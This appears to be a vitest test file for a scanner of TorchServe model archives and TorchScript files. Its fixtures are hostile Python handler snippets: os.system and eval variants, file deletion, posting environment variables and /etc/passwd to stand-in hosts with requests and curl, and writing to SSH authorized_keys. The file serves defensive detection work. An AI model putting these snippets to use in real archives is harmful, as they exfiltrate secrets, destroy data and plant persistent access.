import { describe, expect, it } from 'vitest';
import { essence, scanBytes } from '../../support/scan';
import { storedZip } from '../../support/zip';

/** A .mar with these modules; `handler.py` is the one that its server imports. */
const mar = (code: string, ...others: (readonly [string, string])[]) =>
  storedZip(
    Object.fromEntries(
      [
        ['MAR-INF/MANIFEST.json', '{"model": {"handler": "handler.py"}}'] as const,
        ['handler.py', code] as const,
        ...others,
      ].map(([name, text]) => [name, Buffer.from(text)]),
    ),
  );

const verdictOf = async (code: string, ...others: (readonly [string, string])[]) =>
  (await scanBytes(mar(code, ...others), 'model.mar')).verdict;

describe('code of an archive that acts as soon as the model is loaded', () => {
  it.each([
    'import os\nos.popen("echo pwned")',
    'import os as o\nrun = o.system\nrun("echo pwned")',
    'import posix\nposix.system("echo pwned")',
    'import shutil\nshutil.rmtree("pwned")',
    'import os\nos.remove("pwned")',
    'import requests, os\nrequests.post("https://pwned.invalid", data=dict(os.environ))',
    'import socket\nsocket.create_connection(("pwned.invalid", 1))',
    'from pathlib import Path\nPath("pwned").write_text("x")',
    'open("pwned", "w").write("x")',
    'm = "a"\nopen("pwned", mode=m + "b")',
    'import ctypes\nctypes.CDLL("pwned.so")',
    'import pip\npip.main(["install", "pwned"])',
    'import runpy\nrunpy.run_path("pwned")',
    'import webbrowser\nwebbrowser.open("pwned")',
    'import antigravity',
    'import code\ncode.InteractiveInterpreter().runsource("1")',
    'eval("1")',
    'compile("1", "x", "eval")',
    '__import__("os").system("echo pwned")',
    'import importlib\nimportlib.import_module("subprocess").call(["echo"])',
    'import builtins\ngetattr(builtins, "ex" + "ec")("1")',
    'import sh\nsh.echo("pwned")',
    '@exec\ndef f(): pass',
    'import os\n@os.system\nclass X: pass',
    'import os\ndef f(x=os.system("echo pwned")): pass',
    'import os\nclass X:\n    y = os.system("echo pwned")',
    'import os\n[os.system(x) for x in ["echo pwned"]]',
    'import os\n(lambda: os.system("echo pwned"))()',
    'import os\nlist(map(lambda x: os.system(x), ["echo pwned"]))',
    'import os\ntry:\n    import nothing\nexcept ImportError:\n    os.system("echo pwned")',
    'import os\nif True:\n    os.system("echo pwned")',
    'import os\ndef f():\n    g()\ndef g():\n    os.system("echo pwned")\nf()',
    'import os\nclass X:\n    def __init__(self):\n        os.system("echo pwned")\nX()',
    'import os\nclass X:\n    def run(self):\n        os.system("echo pwned")\nX().run()',
    'import os\nimport threading\ndef f():\n    os.system("echo pwned")\nthreading.Thread(target=f).start()',
    'import os\ndef __getattr__(name):\n    os.system("echo pwned")',
    'import os\nclass X:\n    def __init_subclass__(cls):\n        os.system("echo pwned")\nclass Y(X): pass',
    'import os\nclass X:\n    def __setstate__(self, state):\n        os.system("echo pwned")',
    'import os\nclass Handler:\n    def initialize(self, context):\n        os.system("echo pwned")',
    'import os\nclass Handler:\n    def initialize(self, context):\n        self.prepare()\n    def prepare(self):\n        os.system("echo pwned")',
    'from os import *\nsystem("echo pwned")',
    'import torch\ntorch.os.system("echo pwned")',
    'import numpy as np\nnp.ctypeslib.load_library("pwned", ".")',
    'import sys\nsys.modules["os"].system("echo pwned")',
    '__builtins__["eval"]("1")',
    'f = lambda x, run=eval: run(x)',
    'def f(x, run=eval):\n    run(x)',
  ])('is dangerous: %j', async (code) => {
    expect(await verdictOf(`${code}\n`)).toBe('dangerous');
    expect(await verdictOf('import helper\n', ['helper.py', `${code}\n`])).toBe('dangerous');
  });
});

describe('code of an archive that nobody understands', () => {
  it.each([
    'import something_of_mine\nsomething_of_mine.go()',
    'import importlib\nimportlib.import_module(input()).main()',
    'def f(name):\n    import importlib\n    return importlib.import_module(name)',
    'import numpy\nf = getattr(numpy, name)\nf()',
    'table = {"a": print}\ntable["b"]("x")',
    'def f(x):\n    return x.__class__.__base__.__subclasses__()',
    'def f(x):\n    return f.__globals__["x"]',
    'def f(x):\n    x.write_text("pwned")',
    'def f(x):\n    import os\n    os.remove(x)',
    'def f(x):\n    import requests\n    requests.post(x, timeout=1)',
    'def f(x):\n    import subprocess\n    subprocess.run(["echo"], check=True)',
    'def f(x):\n    import shutil\n    shutil.rmtree(x)',
    'def f(x):\n    with open("pwned", "a") as file:\n        file.write(x)',
    'import sys\nsys.path.insert(0, "/tmp/pwned")',
    'import atexit\natexit.register(print)',
    'import os\nif __name__ == "__main__":\n    os.system("echo pwned")',
    'def f(x):\n    g = open\n    g("pwned", "w").write(x)',
    'class X:\n    def run(self, x):\n        self.write = open\n        self.write("pwned", "w")',
  ])('is suspicious: %j', async (code) => {
    expect(await verdictOf(`${code}\n`)).toBe('suspicious');
  });

  it.each([
    '# -*- coding: utf-7 -*-\nx = 1',
    '#!/usr/bin/env python\n# vim: set fileencoding=raw_unicode_escape :\nx = 1',
  ])('is incomplete in an encoding that is not read: %j', async (code) => {
    expect(await verdictOf(`${code}\n`)).toBe('incomplete');
  });
});

describe('code that handlers have', () => {
  it.each([
    '# -*- coding: UTF-8 -*-\nx = 1\n',
    `import base64, io, json, logging, os, sys
from pathlib import Path

import numpy as np
import torch
from PIL import Image
from torchvision import transforms
from ts.torch_handler.base_handler import BaseHandler

logger = logging.getLogger(__name__)
os.environ["TOKENIZERS_PARALLELISM"] = "false"
sys.path.append(os.path.dirname(os.path.abspath(__file__)))
MEAN = np.array([0.5, 0.5, 0.5])
PIPELINE = transforms.Compose([transforms.Resize(8), transforms.ToTensor()])


class Handler(BaseHandler):
    def initialize(self, context):
        self.manifest = context.manifest
        folder = context.system_properties.get("model_dir")
        device = "cuda" if torch.cuda.is_available() else "cpu"
        self.model = torch.load(os.path.join(folder, "model.pt"), map_location=device, weights_only=True)
        with open(os.path.join(folder, "index_to_name.json")) as file:
            self.names = json.load(file)
        for key, value in self.names.items():
            setattr(self, key, value)
        self.labels = Path(folder).joinpath("labels.txt").read_text().splitlines()

    def preprocess(self, data):
        images = [Image.open(io.BytesIO(base64.b64decode(row["body"]))) for row in data]
        return torch.stack([PIPELINE(image) for image in images])

    def inference(self, batch):
        with torch.no_grad():
            return self.model(batch).softmax(-1).cpu().numpy().tolist()

    def postprocess(self, rows):
        return [getattr(self, "names")[str(np.argmax(row))] for row in rows]
`,
    `import functools, threading, time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field

from model import Net

_lock = threading.Lock()
_service = None
net = Net(4)


@dataclass
class Options:
    size: int = field(default=4)


@functools.lru_cache(maxsize=None)
def table(size):
    return [[i * j for j in range(size)] for i in range(size)]


def handle(data, context):
    global _service
    with _lock, ThreadPoolExecutor(2) as pool:
        return list(pool.map(lambda row: row, data or []))


if __name__ == "__main__":
    print(handle([], None), time.time())
`,
  ])('is safe (%#)', async (code) => {
    const model = ['model.py', 'import torch\n\n\nclass Net(torch.nn.Module):\n    pass\n'] as const;
    const report = await scanBytes(mar(code, model), 'model.mar');
    expect(essence(report)).toEqual({ verdict: 'safe', reasons: ['served-code'], findings: [] });
  });
});

describe('the handler that a manifest names', () => {
  const named = async (handler: unknown) => {
    const manifest = JSON.stringify({ model: { handler } });
    const members = { 'MAR-INF/MANIFEST.json': Buffer.from(manifest), 'handler.py': Buffer.from('x = 1\n') };
    return (await scanBytes(storedZip(members), 'model.mar')).verdict;
  };

  it.each(['handler', 'handler.py', 'handler.py:run', './handler.py', 'image_classifier', undefined, 5])(
    'is in the archive, or the server has it: %j',
    async (handler) => {
      expect(await named(handler)).toBe('safe');
    },
  );

  it.each(['other.py', '../../other:run', '/srv/other.py', 'mine.serving:run'])(
    'comes from elsewhere: %s',
    async (handler) => {
      expect(await named(handler)).toBe('incomplete');
    },
  );

  it.each(['os:system', 'subprocess:call', 'builtins:exec', 'os.py:popen'])('acts: %s', async (handler) => {
    expect(await named(handler)).toBe('dangerous');
  });
});

describe('what the code of an archive is after', () => {
  const aimsOf = async (bytes: Uint8Array, path: string) => {
    const { findings } = await scanBytes(bytes, path);
    return new Set(findings.flatMap(({ aims = [] }) => aims.map(({ aim }) => aim)));
  };

  it.each([
    [
      'as it is imported',
      'import requests, os\nrequests.post("https://own.invalid", data=dict(os.environ))\n',
    ],
    [
      'when it is asked',
      'import os\n\ndef handle(data, context):\n    os.popen("curl -d @/etc/passwd https://own.invalid")\n    return data\n',
    ],
    ['by a rule', 'import os\nos.system("curl -d @/etc/passwd https://own.invalid")\n'],
  ])('is said of a handler %s', async (_, code) => {
    expect(await aimsOf(mar(code), 'model.mar')).toContain('exfiltration');
  });

  const posts = (address: string, rest = 'json=data') =>
    `import requests\n\n\ndef handle(data, context):\n    requests.post(${address}, ${rest})\n    return data\n`;

  it.each([
    ['without a timeout', posts('"https://own.invalid/in"')],
    ['with one', posts('"https://own.invalid/in"', 'json=data, timeout=3')],
    ['under a name of the machine', posts('"http://localhost@own.invalid/in"')],
    ['to a host that begins so', posts('"http://localhost.own.invalid/in"')],
    ['through a proxy', posts('"http://localhost/in"', 'json=data, proxies={"http": "http://own.invalid"}')],
    ['through what is not written', posts('"http://localhost/in"', '**context')],
    [
      'in a thread',
      'import requests, threading\ndef send(data):\n    requests.post("https://own.invalid", json=data)\ndef handle(data, context):\n    threading.Thread(target=send, args=(data,)).start()\n    return data\n',
    ],
  ])('is said of a handler that posts its inputs %s', async (_, code) => {
    const bytes = mar(code);
    expect(await aimsOf(bytes, 'model.mar')).toContain('exfiltration');
    expect((await scanBytes(bytes, 'model.mar')).verdict).toBe('suspicious');
  });

  it.each([
    ['as a text', posts('"http://localhost:8501/v1/models/m:predict"')],
    ['as a name', `HOST = "http://127.0.0.1:9000"\n${posts('HOST + "/predict"', 'json=data, timeout=3')}`],
    ['as a keyword', posts('url="http://[::1]/predict"')],
    [
      'behind a method',
      posts('"http://localhost/predict"').replace('requests.post(', 'requests.request("POST", '),
    ],
  ])('is not said of one that asks the service of its own machine, named %s', async (_, code) => {
    expect((await scanBytes(mar(code), 'model.mar')).verdict).toBe('safe');
  });

  it('is said of TorchScript, wherever the text stands', async () => {
    const code =
      'def forward(self, x):\n  path = "/root/.ssh/authorized_keys"\n  torch.save(x, path)\n  return x\n';
    const script = storedZip({
      'm/version': Buffer.from('3\n'),
      'm/constants.pkl': Buffer.from('\x80\x02).', 'latin1'),
      'm/data.pkl': Buffer.from('\x80\x02}.', 'latin1'),
      'm/code/__torch__.py': Buffer.from(code),
    });
    expect(await aimsOf(script, 'model.pt')).toContain('persistence');
  });
});
